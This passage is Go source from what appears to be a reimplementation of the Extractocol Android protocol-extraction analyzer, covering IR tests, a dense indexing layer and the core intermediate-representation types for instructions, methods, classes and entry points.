		if err != nil {
			return false
		}
		gm := got.Method("p.C.m")
		if gm == nil || len(gm.Instrs) != len(strs)+len(ints)+1 {
			return false
		}
		if !reflect.DeepEqual(got.Resources, p.Resources) {
			return false
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 50}); err != nil {
		t.Fatal(err)
	}
}

func sanitize(s string) string {
	out := make([]rune, 0, len(s))
	for _, r := range s {
		if r == '.' {
			continue
		}
		out = append(out, r)
	}
	return string(out)
}

func TestStringPoolDeduplicates(t *testing.T) {
	// A program repeating one long string many times must encode smaller
	// than the repeated strings themselves.
	p := ir.NewProgram("t")
	c := p.AddClass(&ir.Class{Name: "t.C"})
	b := ir.NewMethod(c, "m", true, nil, "void")
	long := string(bytes.Repeat([]byte("x"), 1000))
	for i := 0; i < 50; i++ {
		b.ConstStr(long)
	}
	b.ReturnVoid()
	b.Done()
	data, err := Encode(p)
	if err != nil {
		t.Fatal(err)
	}
	if len(data) > 5000 {
		t.Fatalf("encoding is %d bytes; string pool not deduplicating", len(data))
	}
}

package ir

import (
	"strings"
	"testing"
	"testing/quick"
)

func buildSample() (*Program, *Method) {
	p := NewProgram("com.example.sample")
	c := p.AddClass(&Class{Name: "com.example.sample.Main"})
	b := NewMethod(c, "greet", false, []string{"java.lang.String"}, "java.lang.String")
	name := b.Param(0)
	sb := b.New("java.lang.StringBuilder")
	b.InvokeSpecial("java.lang.StringBuilder.<init>", sb)
	hello := b.ConstStr("hello ")
	b.InvokeVoid("java.lang.StringBuilder.append", sb, hello)
	b.InvokeVoid("java.lang.StringBuilder.append", sb, name)
	out := b.Invoke("java.lang.StringBuilder.toString", sb)
	b.Return(out)
	m := b.Done()
	return p, m
}

func TestBuilderProducesValidMethod(t *testing.T) {
	p, m := buildSample()
	if err := p.Validate(); err != nil {
		t.Fatalf("Validate: %v", err)
	}
	if m.Registers < m.NumParamRegs() {
		t.Fatalf("registers %d < param regs %d", m.Registers, m.NumParamRegs())
	}
	if got := m.Ref(); got != "com.example.sample.Main.greet" {
		t.Fatalf("Ref = %q", got)
	}
}

func TestParamAndThisRegisters(t *testing.T) {
	p := NewProgram("t")
	c := p.AddClass(&Class{Name: "t.C"})
	inst := NewMethod(c, "inst", false, []string{"int", "int"}, "void")
	if inst.This() != 0 {
		t.Errorf("This = %d, want 0", inst.This())
	}
	if inst.Param(0) != 1 || inst.Param(1) != 2 {
		t.Errorf("instance params = %d,%d want 1,2", inst.Param(0), inst.Param(1))
	}
	inst.ReturnVoid()
	inst.Done()

	st := NewMethod(c, "st", true, []string{"int"}, "void")
	if st.Param(0) != 0 {
		t.Errorf("static param = %d, want 0", st.Param(0))
	}
	st.ReturnVoid()
	st.Done()
}

func TestLabelsAndBranches(t *testing.T) {
	p := NewProgram("t")
	c := p.AddClass(&Class{Name: "t.C"})
	b := NewMethod(c, "abs", true, []string{"int"}, "int")
	x := b.Param(0)
	zero := b.ConstInt(0)
	b.IfEq(x, zero, "done")
	b.Label("done")
	b.Return(x)
	m := b.Done()
	if err := p.Validate(); err != nil {
		t.Fatalf("Validate: %v", err)
	}
	var branch *Instr
	for i := range m.Instrs {
		if m.Instrs[i].Op == OpIfEq {
			branch = &m.Instrs[i]
		}
	}
	if branch == nil {
		t.Fatal("no OpIfEq emitted")
	}
	if m.Instrs[branch.Target].Op != OpReturn {
		t.Fatalf("branch target op = %v, want return", m.Instrs[branch.Target].Op)
	}
}

func TestDoneAppendsImplicitReturn(t *testing.T) {
	p := NewProgram("t")
	c := p.AddClass(&Class{Name: "t.C"})
	b := NewMethod(c, "noop", true, nil, "void")
	m := b.Done()
	if len(m.Instrs) != 1 || m.Instrs[0].Op != OpReturn {
		t.Fatalf("implicit return missing: %v", m.Instrs)
	}
	if err := p.Validate(); err != nil {
		t.Fatalf("Validate: %v", err)
	}
}

func TestValidateRejectsBadRegister(t *testing.T) {
	p := NewProgram("t")
	c := p.AddClass(&Class{Name: "t.C"})
	m := c.AddMethod(&Method{Name: "bad", Static: true, Return: "void", Registers: 1})
	m.Instrs = []Instr{
		{Op: OpMove, Dst: 0, A: 5, B: NoReg, Target: -1},
		{Op: OpReturn, Dst: NoReg, A: NoReg, B: NoReg, Target: -1},
	}
	if err := p.Validate(); err == nil {
		t.Fatal("Validate accepted out-of-range register")
	}
}

func TestValidateRejectsBadBranchTarget(t *testing.T) {
	p := NewProgram("t")
	c := p.AddClass(&Class{Name: "t.C"})
	m := c.AddMethod(&Method{Name: "bad", Static: true, Return: "void", Registers: 1})
	m.Instrs = []Instr{
		{Op: OpGoto, Dst: NoReg, A: NoReg, B: NoReg, Target: 9},
		{Op: OpReturn, Dst: NoReg, A: NoReg, B: NoReg, Target: -1},
	}
	if err := p.Validate(); err == nil {
		t.Fatal("Validate accepted out-of-range branch target")
	}
}

func TestValidateRejectsFallOffEnd(t *testing.T) {
	p := NewProgram("t")
	c := p.AddClass(&Class{Name: "t.C"})
	m := c.AddMethod(&Method{Name: "bad", Static: true, Return: "void", Registers: 1})
	m.Instrs = []Instr{{Op: OpConstInt, Dst: 0, A: NoReg, B: NoReg, Target: -1}}
	if err := p.Validate(); err == nil {
		t.Fatal("Validate accepted method falling off the end")
	}
}

func TestValidateRejectsMissingEntryPoint(t *testing.T) {
	p := NewProgram("t")
	p.Manifest.EntryPoints = []EntryPoint{{Method: "t.C.onCreate", Kind: EventCreate}}
	if err := p.Validate(); err == nil {
		t.Fatal("Validate accepted dangling entry point")
	}
}

func TestResolveMethodWalksSuperChain(t *testing.T) {
	p := NewProgram("t")
	base := p.AddClass(&Class{Name: "t.Base"})
	bb := NewMethod(base, "run", false, nil, "void")
	bb.ReturnVoid()
	bb.Done()
	p.AddClass(&Class{Name: "t.Mid", Super: "t.Base"})
	p.AddClass(&Class{Name: "t.Leaf", Super: "t.Mid"})

	m := p.ResolveMethod("t.Leaf", "run")
	if m == nil || m.Class.Name != "t.Base" {
		t.Fatalf("ResolveMethod = %v, want t.Base.run", m)
	}
	if p.ResolveMethod("t.Leaf", "nope") != nil {
		t.Fatal("resolved nonexistent method")
	}
}

func TestSubclassesAndImplementers(t *testing.T) {
	p := NewProgram("t")
	p.AddClass(&Class{Name: "t.Base"})
	p.AddClass(&Class{Name: "t.A", Super: "t.Base", Interfaces: []string{"t.Runnable"}})
	p.AddClass(&Class{Name: "t.B", Super: "t.A"})
	subs := p.Subclasses("t.Base")
	if len(subs) != 2 || subs[0] != "t.A" || subs[1] != "t.B" {
		t.Fatalf("Subclasses = %v", subs)
	}
	impls := p.Implementers("t.Runnable")
	if len(impls) != 2 || impls[0] != "t.A" || impls[1] != "t.B" {
		t.Fatalf("Implementers = %v", impls)
	}
}

func TestSplitRef(t *testing.T) {
	tests := []struct {
		ref, cls, member string
		ok               bool
	}{
		{"a.b.C.m", "a.b.C", "m", true},
		{"C.m", "C", "m", true},
		{"nodots", "", "", false},
	}
	for _, tt := range tests {
		cls, member, ok := SplitRef(tt.ref)
		if cls != tt.cls || member != tt.member || ok != tt.ok {
			t.Errorf("SplitRef(%q) = %q,%q,%v", tt.ref, cls, member, ok)
		}
	}
}

func TestUsesAndDef(t *testing.T) {
	tests := []struct {
		name string
		in   Instr
		uses []int
		def  int
	}{
		{"const", Instr{Op: OpConstStr, Dst: 3, A: NoReg, B: NoReg}, nil, 3},
		{"move", Instr{Op: OpMove, Dst: 1, A: 2, B: NoReg}, []int{2}, 1},
		{"fput", Instr{Op: OpFieldPut, Dst: NoReg, A: 1, B: 2}, []int{1, 2}, NoReg},
		{"invoke", Instr{Op: OpInvoke, Dst: 0, Args: []int{1, 2}}, []int{1, 2}, 0},
		{"returnvoid", Instr{Op: OpReturn, Dst: NoReg, A: NoReg, B: NoReg}, nil, NoReg},
		{"return", Instr{Op: OpReturn, Dst: NoReg, A: 7, B: NoReg}, []int{7}, NoReg},
		{"ifeq", Instr{Op: OpIfEq, Dst: NoReg, A: 1, B: 2}, []int{1, 2}, NoReg},
	}
	for _, tt := range tests {
		uses := tt.in.Uses()
		if len(uses) != len(tt.uses) {
			t.Errorf("%s: Uses = %v, want %v", tt.name, uses, tt.uses)
			continue
		}
		for i := range uses {
			if uses[i] != tt.uses[i] {
				t.Errorf("%s: Uses = %v, want %v", tt.name, uses, tt.uses)
			}
		}
		if d := tt.in.Def(); d != tt.def {
			t.Errorf("%s: Def = %d, want %d", tt.name, d, tt.def)
		}
	}
}

func TestInstrStringIsStable(t *testing.T) {
	_, m := buildSample()
	s := m.String()
	for _, want := range []string{"invoke-virtual", "const-str", `"hello "`, "StringBuilder.append"} {
		if !strings.Contains(s, want) {
			t.Errorf("method text missing %q:\n%s", want, s)
		}
	}
}

// Property: for every opcode, Uses never contains NoReg and Def is either
// NoReg or a real register value copied from the instruction.
func TestUsesNeverContainNoReg(t *testing.T) {
	f := func(op uint8, dst, a, b int8, args []int8) bool {
		in := Instr{
			Op:  Op(op % 18),
			Dst: int(dst), A: int(a), B: int(b),
		}
		for _, x := range args {
			in.Args = append(in.Args, int(x))
		}
		// Normalize negatives other than NoReg to NoReg, as authored code does.
		norm := func(r int) int {
			if r < 0 {
				return NoReg
			}
			return r
		}
		in.Dst, in.A, in.B = norm(in.Dst), norm(in.A), norm(in.B)
		for i := range in.Args {
			in.Args[i] = norm(in.Args[i])
		}
		for _, u := range in.Uses() {
			if u == NoReg {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, nil); err != nil {
		t.Fatal(err)
	}
}

func TestAppClassesSkipsLibrary(t *testing.T) {
	p := NewProgram("t")
	p.AddClass(&Class{Name: "java.lang.String", Library: true})
	p.AddClass(&Class{Name: "t.Main"})
	app := p.AppClasses()
	if len(app) != 1 || app[0].Name != "t.Main" {
		t.Fatalf("AppClasses = %v", app)
	}
	if len(p.Classes()) != 2 {
		t.Fatalf("Classes = %d, want 2", len(p.Classes()))
	}
}

func TestAddClassReplacesByName(t *testing.T) {
	p := NewProgram("t")
	p.AddClass(&Class{Name: "t.C", Super: "old"})
	p.AddClass(&Class{Name: "t.C", Super: "new"})
	if got := p.Class("t.C").Super; got != "new" {
		t.Fatalf("Super = %q, want new", got)
	}
	if n := len(p.Classes()); n != 1 {
		t.Fatalf("classes = %d, want 1", n)
	}
}

func TestDisassembleContainsStructure(t *testing.T) {
	p, _ := buildSample()
	p.Manifest.AppName = "Sample"
	p.Resources["key"] = "value"
	p.Manifest.EntryPoints = []EntryPoint{{Method: "com.example.sample.Main.greet", Kind: EventClick}}
	out := p.Disassemble()
	for _, want := range []string{
		"package com.example.sample (Sample)",
		"entry com.example.sample.Main.greet [click]",
		`resource key = "value"`,
		"class com.example.sample.Main",
		"invoke-virtual",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("disassembly missing %q", want)
		}
	}
}

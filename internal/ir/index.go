package ir

import (
	"sort"

	"extractocol/internal/intern"
)

// Index is the per-program dense addressing layer behind the analysis hot
// path: every method gets a dense uint32 ID in program order, and every
// statement and register slot gets a dense ID derived from per-method base
// offsets. Statement sets, taint universes and worklist dedup then become
// intern.Bits operations instead of map[string]bool hashing.
//
// Concurrency contract: an Index is built once per program (NewIndex,
// called before the parallel analysis phases start — callgraph.Build does
// it) and is strictly read-only afterwards, so any number of worker
// goroutines may query it without synchronization. The IR itself must not
// be mutated while an Index over it is live; programs that are rewritten
// (obfuscation) are re-indexed by the next analysis run.
type Index struct {
	methods []*Method // method ID -> body, program order
	ids     map[string]uint32
	// stmtBase and regBase have len(methods)+1 entries; method id owns the
	// dense statement range [stmtBase[id], stmtBase[id+1]) and register
	// range [regBase[id], regBase[id+1]).
	stmtBase []uint32
	regBase  []uint32
	sorted   []uint32 // method IDs ordered by Ref, for deterministic walks
}

// NewIndex builds the dense index over every method of p, in program
// order (all classes, library included, so any resolvable ref maps).
func NewIndex(p *Program) *Index {
	x := &Index{ids: map[string]uint32{}}
	for _, c := range p.Classes() {
		for _, m := range c.Methods {
			x.ids[m.Ref()] = uint32(len(x.methods))
			x.methods = append(x.methods, m)
		}
	}
	x.stmtBase = make([]uint32, len(x.methods)+1)
	x.regBase = make([]uint32, len(x.methods)+1)
	for i, m := range x.methods {
		x.stmtBase[i+1] = x.stmtBase[i] + uint32(len(m.Instrs))
		x.regBase[i+1] = x.regBase[i] + uint32(m.Registers)
	}
	x.sorted = make([]uint32, len(x.methods))
	for i := range x.sorted {
		x.sorted[i] = uint32(i)
	}
	sort.Slice(x.sorted, func(i, j int) bool {
		return x.methods[x.sorted[i]].Ref() < x.methods[x.sorted[j]].Ref()
	})
	return x
}

// NumMethods returns the number of indexed methods.
func (x *Index) NumMethods() int { return len(x.methods) }

// NumStmts returns the total number of dense statement IDs.
func (x *Index) NumStmts() int { return int(x.stmtBase[len(x.methods)]) }

// NumRegSlots returns the total number of dense register slots.
func (x *Index) NumRegSlots() int { return int(x.regBase[len(x.methods)]) }

// MethodID resolves a fully qualified ref to its dense ID.
func (x *Index) MethodID(ref string) (uint32, bool) {
	id, ok := x.ids[ref]
	return id, ok
}

// MethodAt returns the method body for a dense ID.
func (x *Index) MethodAt(id uint32) *Method { return x.methods[id] }

// StmtID returns the dense statement ID of instruction idx in method id.
func (x *Index) StmtID(id uint32, idx int) uint32 {
	return x.stmtBase[id] + uint32(idx)
}

// StmtOf resolves a ref + instruction index to a dense statement ID.
func (x *Index) StmtOf(ref string, idx int) (uint32, bool) {
	id, ok := x.ids[ref]
	if !ok {
		return 0, false
	}
	return x.stmtBase[id] + uint32(idx), true
}

// StmtAt resolves a dense statement ID back to its method and instruction
// index.
func (x *Index) StmtAt(stmt uint32) (*Method, int) {
	// First method whose range ends beyond stmt; empty methods share their
	// successor's base and are skipped naturally.
	i := sort.Search(len(x.methods), func(i int) bool { return x.stmtBase[i+1] > stmt })
	return x.methods[i], int(stmt - x.stmtBase[i])
}

// RegSlot returns the dense register slot of register reg in method id —
// the worklist dedup address of a local taint fact.
func (x *Index) RegSlot(id uint32, reg int) uint32 {
	return x.regBase[id] + uint32(reg)
}

// EachSorted walks every method in Ref order (the order the slicer
// enumerates jobs in); f returning false stops the walk.
func (x *Index) EachSorted(f func(id uint32, m *Method) bool) {
	for _, id := range x.sorted {
		if !f(id, x.methods[id]) {
			return
		}
	}
}

// EachStmt walks a dense statement set in increasing statement order —
// method by method in program order, instruction order within a method —
// resolving each member to its body with an O(1) amortized cursor instead
// of a per-statement binary search. f returning false stops the walk.
func (x *Index) EachStmt(b *intern.Bits, f func(m *Method, id uint32, idx int) bool) {
	mi := 0
	b.Each(func(s uint32) bool {
		for x.stmtBase[mi+1] <= s {
			mi++
		}
		return f(x.methods[mi], uint32(mi), int(s-x.stmtBase[mi]))
	})
}

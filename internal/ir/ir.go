// Package ir defines the typed, register-based three-address intermediate
// representation that all analyses in this repository consume.
//
// The IR plays the role Jimple plays in the original Extractocol system: a
// small instruction set over virtual registers, grouped into methods and
// classes, with symbolic references for fields, methods and types. Programs
// are authored with the Builder API (see build.go), serialized into binary
// .apkb containers by package dex, and analyzed by the cfg, callgraph,
// taint, slice and sigbuild packages.
//
// Registers are plain integers. For a method with N parameters the first N
// registers hold the incoming arguments; for instance methods register 0
// holds the receiver and parameters start at register 1.
package ir

import (
	"fmt"
	"sort"
	"strings"
)

// Op enumerates the IR instruction opcodes.
type Op uint8

// Instruction opcodes. The set intentionally mirrors the subset of Dalvik /
// Jimple that matters for protocol extraction: constants, moves, object and
// field operations, invocations, branches and returns.
const (
	OpNop Op = iota
	// OpConstStr loads the string literal Str into Dst.
	OpConstStr
	// OpConstInt loads the integer literal Int into Dst.
	OpConstInt
	// OpConstNull loads null into Dst.
	OpConstNull
	// OpMove copies register A into Dst.
	OpMove
	// OpNew allocates an instance of type Sym into Dst. Constructors are
	// separate OpInvoke instructions on the allocated value.
	OpNew
	// OpInvoke calls the method named by Sym. Args holds the argument
	// registers; for instance calls Args[0] is the receiver. Dst receives
	// the return value, or is NoReg for void calls.
	OpInvoke
	// OpFieldGet loads field Sym of the object in register A into Dst.
	OpFieldGet
	// OpFieldPut stores register B into field Sym of the object in A.
	OpFieldPut
	// OpStaticGet loads the static field Sym into Dst.
	OpStaticGet
	// OpStaticPut stores register B into the static field Sym.
	OpStaticPut
	// OpIfZ branches to Target when register A is zero/null.
	OpIfZ
	// OpIfNZ branches to Target when register A is non-zero/non-null.
	OpIfNZ
	// OpIfEq branches to Target when registers A and B are equal.
	OpIfEq
	// OpIfNe branches to Target when registers A and B differ.
	OpIfNe
	// OpGoto branches unconditionally to Target.
	OpGoto
	// OpReturn returns register A, or returns void when A is NoReg.
	OpReturn
	// OpBinop applies the integer operator in Str ("+", "-", "*") to A and
	// B, storing the result in Dst. String concatenation is expressed via
	// StringBuilder semantics instead, as it is in Dalvik bytecode.
	OpBinop
)

// NoReg marks an absent register operand (no destination, void return).
const NoReg = -1

var opNames = [...]string{
	OpNop: "nop", OpConstStr: "const-str", OpConstInt: "const-int",
	OpConstNull: "const-null", OpMove: "move", OpNew: "new",
	OpInvoke: "invoke", OpFieldGet: "fget", OpFieldPut: "fput",
	OpStaticGet: "sget", OpStaticPut: "sput", OpIfZ: "if-z",
	OpIfNZ: "if-nz", OpIfEq: "if-eq", OpIfNe: "if-ne", OpGoto: "goto",
	OpReturn: "return", OpBinop: "binop",
}

// String returns the mnemonic for the opcode.
func (o Op) String() string {
	if int(o) < len(opNames) {
		return opNames[o]
	}
	return fmt.Sprintf("op(%d)", uint8(o))
}

// InvokeKind distinguishes dispatch styles for OpInvoke.
type InvokeKind uint8

// Invocation kinds.
const (
	// InvokeVirtual dispatches on the dynamic type of Args[0].
	InvokeVirtual InvokeKind = iota
	// InvokeStatic has no receiver.
	InvokeStatic
	// InvokeSpecial calls the exact named method (constructors, super).
	InvokeSpecial
	// InvokeInterface dispatches through an interface method.
	InvokeInterface
)

var invokeKindNames = [...]string{"virtual", "static", "special", "interface"}

// String returns the lower-case name of the invoke kind.
func (k InvokeKind) String() string {
	if int(k) < len(invokeKindNames) {
		return invokeKindNames[k]
	}
	return fmt.Sprintf("kind(%d)", uint8(k))
}

// Instr is a single IR instruction. Which fields are meaningful depends on
// Op; unused register fields hold NoReg and unused Target holds -1.
type Instr struct {
	Op     Op
	Dst    int        // destination register or NoReg
	A, B   int        // operand registers or NoReg
	Args   []int      // OpInvoke argument registers (receiver first)
	Sym    string     // method/field/type reference or binop operator
	Str    string     // string literal for OpConstStr
	Int    int64      // integer literal for OpConstInt
	Target int        // branch target as an instruction index, or -1
	Kind   InvokeKind // dispatch style for OpInvoke
}

// Uses returns the registers read by the instruction, in operand order.
func (in *Instr) Uses() []int {
	switch in.Op {
	case OpMove, OpFieldGet, OpIfZ, OpIfNZ:
		return regs(in.A)
	case OpFieldPut:
		return regs(in.A, in.B)
	case OpStaticPut:
		return regs(in.B)
	case OpIfEq, OpIfNe, OpBinop:
		return regs(in.A, in.B)
	case OpReturn:
		return regs(in.A)
	case OpInvoke:
		out := make([]int, 0, len(in.Args))
		for _, a := range in.Args {
			if a != NoReg {
				out = append(out, a)
			}
		}
		return out
	default:
		return nil
	}
}

// EachUse calls f for every register the instruction reads, in operand
// order. It is the allocation-free form of Uses for the analysis hot
// loops: Uses builds a fresh slice per call, which the profile shows as
// the single largest allocation site in slicing.
func (in *Instr) EachUse(f func(reg int)) {
	switch in.Op {
	case OpMove, OpFieldGet, OpIfZ, OpIfNZ, OpReturn:
		if in.A != NoReg {
			f(in.A)
		}
	case OpFieldPut, OpIfEq, OpIfNe, OpBinop:
		if in.A != NoReg {
			f(in.A)
		}
		if in.B != NoReg {
			f(in.B)
		}
	case OpStaticPut:
		if in.B != NoReg {
			f(in.B)
		}
	case OpInvoke:
		for _, a := range in.Args {
			if a != NoReg {
				f(a)
			}
		}
	}
}

// Def returns the register written by the instruction, or NoReg.
func (in *Instr) Def() int {
	switch in.Op {
	case OpConstStr, OpConstInt, OpConstNull, OpMove, OpNew, OpFieldGet,
		OpStaticGet, OpBinop:
		return in.Dst
	case OpInvoke:
		return in.Dst
	default:
		return NoReg
	}
}

// IsBranch reports whether the instruction may transfer control to Target.
func (in *Instr) IsBranch() bool {
	switch in.Op {
	case OpIfZ, OpIfNZ, OpIfEq, OpIfNe, OpGoto:
		return true
	}
	return false
}

// IsConditional reports whether the instruction is a conditional branch,
// i.e. control may also fall through to the next instruction.
func (in *Instr) IsConditional() bool {
	return in.IsBranch() && in.Op != OpGoto
}

// Terminates reports whether control never falls through to the next
// instruction.
func (in *Instr) Terminates() bool {
	return in.Op == OpGoto || in.Op == OpReturn
}

func regs(rs ...int) []int {
	out := rs[:0]
	for _, r := range rs {
		if r != NoReg {
			out = append(out, r)
		}
	}
	return out
}

// String renders the instruction in a compact assembly-like form.
func (in *Instr) String() string {
	var b strings.Builder
	b.WriteString(in.Op.String())
	switch in.Op {
	case OpConstStr:
		fmt.Fprintf(&b, " r%d, %q", in.Dst, in.Str)
	case OpConstInt:
		fmt.Fprintf(&b, " r%d, %d", in.Dst, in.Int)
	case OpConstNull:
		fmt.Fprintf(&b, " r%d", in.Dst)
	case OpMove:
		fmt.Fprintf(&b, " r%d, r%d", in.Dst, in.A)
	case OpNew:
		fmt.Fprintf(&b, " r%d, %s", in.Dst, in.Sym)
	case OpInvoke:
		fmt.Fprintf(&b, "-%s", in.Kind)
		if in.Dst != NoReg {
			fmt.Fprintf(&b, " r%d =", in.Dst)
		}
		fmt.Fprintf(&b, " %s(", in.Sym)
		for i, a := range in.Args {
			if i > 0 {
				b.WriteString(", ")
			}
			fmt.Fprintf(&b, "r%d", a)
		}
		b.WriteString(")")
	case OpFieldGet:
		fmt.Fprintf(&b, " r%d, r%d.%s", in.Dst, in.A, in.Sym)
	case OpFieldPut:
		fmt.Fprintf(&b, " r%d.%s, r%d", in.A, in.Sym, in.B)
	case OpStaticGet:
		fmt.Fprintf(&b, " r%d, %s", in.Dst, in.Sym)
	case OpStaticPut:
		fmt.Fprintf(&b, " %s, r%d", in.Sym, in.B)
	case OpIfZ, OpIfNZ:
		fmt.Fprintf(&b, " r%d, @%d", in.A, in.Target)
	case OpIfEq, OpIfNe:
		fmt.Fprintf(&b, " r%d, r%d, @%d", in.A, in.B, in.Target)
	case OpGoto:
		fmt.Fprintf(&b, " @%d", in.Target)
	case OpReturn:
		if in.A != NoReg {
			fmt.Fprintf(&b, " r%d", in.A)
		}
	case OpBinop:
		fmt.Fprintf(&b, " r%d, r%d %s r%d", in.Dst, in.A, in.Sym, in.B)
	}
	return b.String()
}

// Field describes a class field.
type Field struct {
	Name   string
	Type   string
	Static bool
}

// Method is a single method body: a flat instruction list with branch
// targets expressed as instruction indices.
type Method struct {
	Class     *Class // owning class, set by Class.AddMethod
	Name      string
	Params    []string // parameter types, excluding the receiver
	Return    string   // return type, or "void"
	Static    bool
	Registers int // number of virtual registers used
	Instrs    []Instr

	// ref caches "Class.Name". It is (re)computed by Class.AddMethod and
	// Program.AddClass — the only attachment points — so renames that go
	// through a program rebuild (obfuscation) refresh it. Ref never writes
	// it, keeping concurrent Ref calls race-free.
	ref string
}

// Ref returns the method's fully qualified reference "Class.Name".
func (m *Method) Ref() string {
	if m.ref != "" {
		return m.ref
	}
	return m.Class.Name + "." + m.Name
}

// NumParamRegs returns how many leading registers hold incoming values
// (receiver plus parameters).
func (m *Method) NumParamRegs() int {
	n := len(m.Params)
	if !m.Static {
		n++
	}
	return n
}

// String renders the method signature and body as assembly-like text.
func (m *Method) String() string {
	var b strings.Builder
	fmt.Fprintf(&b, "%s(%s) %s {\n", m.Ref(), strings.Join(m.Params, ", "), m.Return)
	for i := range m.Instrs {
		fmt.Fprintf(&b, "  %3d: %s\n", i, m.Instrs[i].String())
	}
	b.WriteString("}")
	return b.String()
}

// Class groups fields and methods under a fully qualified name such as
// "com.example.app.MainActivity".
type Class struct {
	Name       string
	Super      string // fully qualified superclass name, or ""
	Interfaces []string
	Fields     []*Field
	Methods    []*Method
	// Library marks classes that belong to the modeled platform API
	// surface (java.*, android.*, org.apache.http.*, ...). Library classes
	// carry no analyzable bodies; their behavior comes from the semantic
	// model.
	Library bool
}

// AddMethod appends m to the class and sets its back-reference.
func (c *Class) AddMethod(m *Method) *Method {
	m.Class = c
	m.ref = c.Name + "." + m.Name
	c.Methods = append(c.Methods, m)
	return m
}

// Method returns the class's own method with the given name, or nil.
func (c *Class) Method(name string) *Method {
	for _, m := range c.Methods {
		if m.Name == name {
			return m
		}
	}
	return nil
}

// Field returns the class's own field with the given name, or nil.
func (c *Class) Field(name string) *Field {
	for _, f := range c.Fields {
		if f.Name == name {
			return f
		}
	}
	return nil
}

// EventKind classifies how an entry point is triggered at run time. The
// static analyzer treats all entry points uniformly; the kinds exist so the
// dynamic baselines (manual and automatic UI fuzzing) can reproduce their
// real-world reachability limits, and so intent-triggered flows can be
// excluded from static analysis exactly as in the paper (§3.4, §5.1).
type EventKind uint8

// Event kinds, ordered roughly by how hard they are to trigger dynamically.
const (
	// EventCreate fires when the app starts (Activity.onCreate).
	EventCreate EventKind = iota
	// EventClick is a standard clickable UI element; reachable by both
	// manual and automatic (PUMA-style) fuzzing.
	EventClick
	// EventCustomUI is a click on a custom-drawn widget that UI-automation
	// tools fail to recognize; reachable only by manual fuzzing.
	EventCustomUI
	// EventLogin requires credentials / signup; manual fuzzing only.
	EventLogin
	// EventAction has real-world side effects (purchases, job
	// applications); not reachable by any fuzzing in the paper's setup.
	EventAction
	// EventTimer fires from timers (APK update checks); not reachable by
	// UI fuzzing.
	EventTimer
	// EventServerPush fires in response to server-initiated content
	// updates; not reachable by UI fuzzing.
	EventServerPush
	// EventLocation fires from location-service callbacks.
	EventLocation
	// EventIntent fires via Android intents. Extractocol does not model
	// intents, so statically these entry points are invisible (§4).
	EventIntent
)

var eventKindNames = [...]string{
	"create", "click", "customui", "login", "action", "timer",
	"serverpush", "location", "intent",
}

// String returns the lower-case name of the event kind.
func (k EventKind) String() string {
	if int(k) < len(eventKindNames) {
		return eventKindNames[k]
	}
	return fmt.Sprintf("event(%d)", uint8(k))
}

// EntryPoint declares an externally triggered handler method, the analog of
// a lifecycle/UI callback registered in an Android manifest or layout.
type EntryPoint struct {
	Method string    // fully qualified "Class.method"
	Kind   EventKind // how the handler is triggered
	Label  string    // human-readable trigger label ("btn_search")
}

// Manifest carries app-level metadata shipped inside the binary container.
type Manifest struct {
	Package     string // application package, e.g. "com.kayak.android"
	AppName     string
	Obfuscated  bool
	EntryPoints []EntryPoint
}

// Program is a complete application: classes, manifest and resources (the
// analog of res/values/strings.xml referenced through Android.R).
type Program struct {
	Manifest  Manifest
	Resources map[string]string // resource key -> string value
	classes   map[string]*Class
	order     []string // class names in insertion order
}

// NewProgram returns an empty program with the given package name.
func NewProgram(pkg string) *Program {
	return &Program{
		Manifest:  Manifest{Package: pkg},
		Resources: map[string]string{},
		classes:   map[string]*Class{},
	}
}

// AddClass inserts c, replacing any previous class with the same name. The
// cached method refs are refreshed: a program rebuild after renaming
// (obfuscation) re-adds every class here with its final name.
func (p *Program) AddClass(c *Class) *Class {
	if _, ok := p.classes[c.Name]; !ok {
		p.order = append(p.order, c.Name)
	}
	for _, m := range c.Methods {
		m.ref = c.Name + "." + m.Name
	}
	p.classes[c.Name] = c
	return c
}

// Class returns the class with the given fully qualified name, or nil.
func (p *Program) Class(name string) *Class { return p.classes[name] }

// Classes returns all classes in insertion order.
func (p *Program) Classes() []*Class {
	out := make([]*Class, 0, len(p.order))
	for _, n := range p.order {
		out = append(out, p.classes[n])
	}
	return out
}

// AppClasses returns non-library classes in insertion order.
func (p *Program) AppClasses() []*Class {
	var out []*Class
	for _, c := range p.Classes() {
		if !c.Library {
			out = append(out, c)
		}
	}
	return out
}

// Method resolves a fully qualified "Class.method" reference to its body,
// or nil when unknown. It does not walk the class hierarchy; use
// ResolveMethod for dispatch-aware lookup.
func (p *Program) Method(ref string) *Method {
	cls, name, ok := SplitRef(ref)
	if !ok {
		return nil
	}
	c := p.classes[cls]
	if c == nil {
		return nil
	}
	return c.Method(name)
}

// ResolveMethod looks up name on class cls, walking the superclass chain,
// mirroring virtual dispatch resolution. It returns nil when the method is
// not found or only exists on a library class.
func (p *Program) ResolveMethod(cls, name string) *Method {
	for c := p.classes[cls]; c != nil; c = p.classes[c.Super] {
		if m := c.Method(name); m != nil {
			return m
		}
		if c.Super == "" {
			break
		}
	}
	return nil
}

// Subclasses returns the names of all classes that have cls on their
// superclass chain (not including cls itself), sorted.
func (p *Program) Subclasses(cls string) []string {
	var out []string
	for name, c := range p.classes {
		for s := c.Super; s != ""; {
			if s == cls {
				out = append(out, name)
				break
			}
			sc := p.classes[s]
			if sc == nil {
				break
			}
			s = sc.Super
		}
	}
	sort.Strings(out)
	return out
}

// Implementers returns the names of classes declaring the given interface,
// directly or through a superclass, sorted.
func (p *Program) Implementers(iface string) []string {
	var out []string
	for name := range p.classes {
		for c := p.classes[name]; c != nil; c = p.classes[c.Super] {
			if containsStr(c.Interfaces, iface) {
				out = append(out, name)
				break
			}
			if c.Super == "" {
				break
			}
		}
	}
	sort.Strings(out)
	return out
}

// InstrCount returns the total number of instructions across app classes.
func (p *Program) InstrCount() int {
	n := 0
	for _, c := range p.AppClasses() {
		for _, m := range c.Methods {
			n += len(m.Instrs)
		}
	}
	return n
}

// SplitRef splits "pkg.Class.method" into class and member names at the
// last dot. ok is false when ref contains no dot.
func SplitRef(ref string) (cls, member string, ok bool) {
	i := strings.LastIndexByte(ref, '.')
	if i < 0 {
		return "", "", false
	}
	return ref[:i], ref[i+1:], true
}

func containsStr(ss []string, s string) bool {
	for _, v := range ss {
		if v == s {
			return true
		}
	}
	return false
}

// Validate checks structural invariants: branch targets in range, register
// operands within the declared register count, entry points resolvable.
// It returns a descriptive error for the first violation found.
func (p *Program) Validate() error {
